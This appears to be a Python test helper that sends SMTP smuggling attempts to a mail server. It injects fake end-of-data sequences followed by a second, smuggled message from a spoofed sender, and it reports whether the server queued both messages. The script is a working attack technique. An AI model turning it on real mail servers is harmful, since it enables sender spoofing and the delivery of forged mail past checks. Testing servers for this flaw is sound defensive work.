#!/usr/bin/env python3
"""smuggle - SMTP smuggling attempts (SEC Consult, December 2023) against
one server. Each session: EHLO, MAIL, RCPT, DATA; after the 354, a message
whose body holds a fake end of data (SEQ), then a second MAIL/RCPT/DATA
and a "smuggled" message, the real end CR LF . CR LF, and QUIT.

    smuggle.py -p PORT [-b ADDR] --rcpt ADDR [--split] SEQ...

SEQ is a fake end written with Python escapes ("\\n.\\n", "\\r.\\r\\n").
With --split, each SEQ is also sent cut into two writes at every position
inside it (a pause between the writes), one session per cut.

One line a session: "SEQ-REPR cut=K queued=N: reply | reply ...", where
queued counts the "queued as" replies the server gave: a server that can
be smuggled through answers queued=2. Exit status 0 (the test judges).
"""
import argparse
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import smtpc  # noqa: E402


def attempt(opts, seq, cut):
    """One session with fake end seq, its bytes cut at cut (or None)."""
    sock, rd = smtpc.connect(opts)
    replies = [rd.reply()]
    for cmd in ("EHLO client.test", "MAIL FROM:<sender@example.org>",
                "RCPT TO:<%s>" % opts.rcpt, "DATA"):
        sock.sendall(cmd.encode() + b"\r\n")
        replies.append(rd.reply())
        if replies[-1] is None:
            return replies
    head = b"Subject: first\r\n\r\nfirst part" + seq
    tail = (b"MAIL FROM:<evil@example.org>\r\nRCPT TO:<%s>\r\nDATA\r\n"
            b"Subject: smuggled\r\n\r\nsmuggled body\r\n.\r\nQUIT\r\n"
            % opts.rcpt.encode())
    pieces = [head + tail]
    if cut is not None:
        at = len(b"Subject: first\r\n\r\nfirst part") + cut
        data = head + tail
        pieces = [data[:at], data[at:]]
    try:
        for p in pieces:
            sock.sendall(p)
            smtpc.time.sleep(0.1)
    except OSError:
        pass
    while True:
        r = rd.reply(opts.quiet)
        if r is None:
            break
        replies.append(r)
        if r.startswith("221"):
            break
    return replies


def main():
    """Run every attempt asked for and print one line each."""
    ap = argparse.ArgumentParser(description="SMTP smuggling attempts")
    ap.add_argument("-H", "--host", default="127.0.0.1")
    ap.add_argument("-p", "--port", type=int, required=True)
    ap.add_argument("-b", "--bind")
    ap.add_argument("-t", "--timeout", type=float, default=20)
    ap.add_argument("-q", "--quiet", type=float, default=2)
    ap.add_argument("--rcpt", required=True)
    ap.add_argument("--split", action="store_true")
    ap.add_argument("seqs", nargs="+")
    opts = ap.parse_args()
    for text in opts.seqs:
        seq = smtpc.unescape(text)
        cuts = [None] + (list(range(len(seq) + 1)) if opts.split else [])
        for cut in cuts:
            replies = attempt(opts, seq, cut)
            queued = sum(1 for r in replies if r and " queued as " in r)
            print("%s cut=%s queued=%d: %s" % (
                repr(seq), "-" if cut is None else cut, queued,
                " || ".join(r or "CLOSED" for r in replies)), flush=True)


if __name__ == "__main__":
    main()
